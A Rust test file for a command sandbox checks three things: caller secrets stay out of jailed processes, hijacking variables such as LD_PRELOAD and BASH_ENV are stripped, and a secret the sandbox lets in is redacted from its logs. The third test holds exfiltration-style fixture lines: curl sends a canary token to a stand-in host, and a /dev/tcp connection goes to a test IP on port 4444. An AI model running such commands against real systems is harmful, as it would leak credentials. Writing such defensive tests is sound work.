//! The caller's environment: what is not let in is nowhere inside, and what is let in is nowhere
//! in our own words.

use std::fs;

use crate::world::World;

const CANARY: &str = "SECRET_CANARY_7f3a";

#[test]
fn a_variable_of_the_callers_is_in_no_process_inside() {
    let world = World::new();
    let look = "cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'";
    let mut command = world.program(&["-q", "--env", "LET_IN=control", "--", "sh", "-c", look]);
    command.env("AWS_SECRET_ACCESS_KEY", CANARY).env("KVRO_SECRET", CANARY);
    let ran = world.finish(command);
    let text = String::from_utf8_lossy(&ran.out);
    assert!(text.contains("LET_IN=control"), "the look sees nothing: {text}");
    assert!(!text.contains(CANARY), "{text}");
}

#[test]
fn variables_that_steer_programs_steer_neither_us_nor_the_agent() {
    let world = World::new();
    let (bash_env, keys) = (world.put("bash_env", "echo steered\n"), world.path("keys"));
    let steering = [
        ("LD_PRELOAD", world.path("e.so")),
        ("LD_LIBRARY_PATH", world.path("lib")),
        ("GIT_DIR", world.path("git")),
        ("GIT_CONFIG_GLOBAL", world.path("gitconfig")),
        ("NODE_OPTIONS", world.path("node.js")),
        ("PYTHONSTARTUP", world.path("start.py")),
        ("BASH_ENV", bash_env),
        ("SSLKEYLOGFILE", keys.clone()),
        ("HTTPS_PROXY", "http://127.0.0.1:1".into()),
        ("SSL_CERT_DIR", world.path("certificates")),
    ];
    let mut command = world.program(&["-q", "--", "bash", "-c", "env"]);
    command.envs(steering.iter().map(|(name, value)| (name, value)));
    let ran = world.finish(command);
    assert_eq!(ran.code, 0, "{ran:?}");
    for (name, value) in steering {
        let line = format!("{name}={}", value.display());
        assert!(!ran.lines().contains(&&*line), "{line} came in");
    }
    assert!(!ran.text().contains("steered") && ran.text().contains("KVRO_JAIL=1"), "{ran:?}");
    assert!(!keys.exists());
}

#[test]
fn a_secret_that_is_let_in_is_nowhere_on_record() {
    let world = World::new();
    let script = format!(
        "echo $API_TOKEN; curl -s 'https://denied.example/v1?token={CANARY}' -H 'authorization: {CANARY}'; \
         curl -s http://u:{CANARY}@denied.example/; sh -c 'exec -a {CANARY} true'; \
         bash -c ': </dev/tcp/203.0.113.9/4444' {CANARY}; true"
    );
    let mut command = world.program(&["-v", "--env", "API_TOKEN", "--report"]);
    command.arg(world.path("report.json")).args(["--", "sh", "-c", &script]);
    command.env("API_TOKEN", CANARY);
    let ran = world.finish(command);
    assert_eq!((ran.code, ran.lines().first()), (0, Some(&CANARY)), "{ran:?}");
    assert!(world.ledger().contains("denied.example"), "{}", world.ledger());
    let report = fs::read_to_string(world.path("report.json")).unwrap();
    let ours = ran.notes.lines().filter(|line| line.contains("kvro"));
    let ours: String = ours.collect();
    for (name, text) in [("ledger", &world.ledger()), ("report", &report), ("words", &ours)] {
        assert!(!text.contains(CANARY), "the {name} has it: {text}");
    }
}
